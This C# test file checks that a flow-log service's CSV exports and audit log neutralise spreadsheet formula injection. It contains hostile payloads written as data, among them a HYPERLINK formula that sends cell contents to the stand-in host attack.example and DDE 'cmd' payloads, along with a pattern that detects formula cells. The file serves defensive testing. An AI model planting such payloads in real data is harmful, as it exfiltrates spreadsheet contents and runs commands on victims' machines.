using System.Net;
using FlowLog.Chunks;
using FlowLog.Flows;
using FlowLogFunctions.Ingest;
using FlowLogFunctions.Tests.Attacks.Support;
using FlowLogFunctions.Tests.Support;

namespace FlowLogFunctions.Tests.Attacks;

/// <summary>Texts from outside that a spreadsheet would take for formulas, in everything that answers CSV.</summary>
[Collection(AttackCollection.Name)]
public sealed class CsvAttacks(AttackFixture api)
{
    private static readonly string[] Formulas =
    [
        "=1+2", "=HYPERLINK(\"http://attack.example?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+2", "\r=1+2", "\n=1+2", "＝1+2", "＠SUM(1)", "=\"\"\",\"=1", "=1,=2\r\n=3",
    ];

    private static readonly (string Path, string? Accept)[] Records =
    [
        ("records?from=0&to=4000000000", "text/csv"), ("export?from=0&to=4000000000&format=csv", null), ("query?from=0&to=4000000000&query=*", "text/csv"),
        ("query?from=0&to=4000000000&query=*%20%7C%20SELECT%20rule_id%2C%20skip_reason%20FROM%20log", "text/csv"), ("groups?from=0&to=4000000000&by=rule-id,skip-reason", "text/csv"),
    ];

    [Fact]
    public async Task OfRecords_NoCellIsAFormula()
    {
        await using var stage = await Stage.OpenAsync(api);
        await stage.LogstoreAsync("flows");
        var flowLog = await stage.FlowLogAsync("flows");
        await stage.Get<IngestBatch>().RunAsync(Message(stage, flowLog), default);
        foreach (var (path, accept) in Records)
        {
            var answer = await api.As(stage.Account).SendAsync(
                "GET", $"/api/projects/{stage.Project}/logstores/flows/{path}", (string?)null, accept is null ? [] : [("Accept", accept)]);
            Assert.True(answer.Status == 200, answer.ToString());
            var cells = Cells(answer.Body);
            Assert.DoesNotContain(cells, IsFormula);
            Assert.All(Formulas, formula => Assert.Contains($"'{formula}", cells));
        }
    }

    [Fact]
    public async Task OfColumnsNames_NoCellIsAFormula()
    {
        var victim = await api.VictimAsync();
        var query = Uri.EscapeDataString("* | SELECT '=1+2' AS \"=cmd|x\", -5 AS \"-5\", '-5.5' AS y, '-' AS \"@z\"");

        var answer = await api.As(victim.Account).SendAsync(
            "GET", $"/api/projects/{victim.Has["ProjectName"]}/logstores/{victim.Has["LogstoreName"]}/query?query={query}", (string?)null, ("Accept", "text/csv"));

        Assert.Equal("'=cmd|x,-5,y,'@z\r\n'=1+2,-5,-5.5,-\r\n", answer.Body);
    }

    [Fact]
    public async Task OfTheAuditLog_NoCellIsAFormula()
    {
        var account = api.NewAccount();
        foreach (var agent in Formulas.Where(formula => !formula.Any(char.IsControl)))
            await api.As(account).SendAsync("DELETE", "/api/vpcs/=1+2", (string?)null, ("User-Agent", agent));
        (await account.PostAsync("api/users", new { name = "user" })).Expect(HttpStatusCode.Created);

        var answer = await api.As(account).SendAsync("GET", "/api/audit", (string?)null, ("Accept", "text/csv"));

        var cells = Cells(answer.Body);
        Assert.Contains("'=1+2", cells);
        Assert.DoesNotContain(cells, IsFormula);
    }

    private static byte[] Message(Stage stage, string flowLog)
    {
        var start = stage.Time.Seconds + 1;
        return BatchMessage.Encode(new Batch
        {
            Id = $"eni-attack-{start}-0",
            AccountId = stage.Account.AccountId,
            Region = stage.Scope.Region,
            EniId = "eni-attack",
            FlowLogIds = [flowLog],
            Chunk = ChunkEncoder.Encode(FlowColumns.Of(
            [
                .. Formulas.Select(formula => new FlowRecord
                {
                    AccountId = stage.Account.AccountId,
                    Region = stage.Scope.Region,
                    EniId = "eni-attack",
                    VpcId = stage.VpcId,
                    Flow = new(IpAddress.V4(1), IpAddress.V4(2), 3, 4, 17),
                    Packets = 1,
                    Bytes = 100,
                    Start = start,
                    End = start,
                    Action = FlowAction.Accept,
                    RuleId = formula,
                    SkipReason = formula,
                }),
            ])),
        });
    }

    /// <summary>As a spreadsheet reads it: what it would show as a number is none.</summary>
    private static bool IsFormula(string cell) => cell is ['=' or '+' or '@' or '\t' or '\r' or '\n' or '＝' or '＋' or '－' or '＠', ..] or ['-', not (>= '0' and <= '9'), ..] or ['-', _, _, '+', ..];

    private static IReadOnlyList<string> Cells(string csv)
    {
        var (cells, cell, isQuoted) = (new List<string>(), new System.Text.StringBuilder(), false);
        for (var at = 0; at < csv.Length; at++)
        {
            if (isQuoted && csv[at] == '"' && at + 1 < csv.Length && csv[at + 1] == '"')
                cell.Append(csv[at++]);
            else if (csv[at] == '"')
                isQuoted = !isQuoted;
            else if (!isQuoted && (csv[at] == ',' || csv.AsSpan(at).StartsWith("\r\n")))
                (at, _) = (at + (csv[at] == ',' ? 0 : 1), End(cells, cell));
            else
                cell.Append(csv[at]);
        }

        return cells;
    }

    private static bool End(List<string> cells, System.Text.StringBuilder cell)
    {
        cells.Add(cell.ToString());
        cell.Clear();
        return true;
    }
}
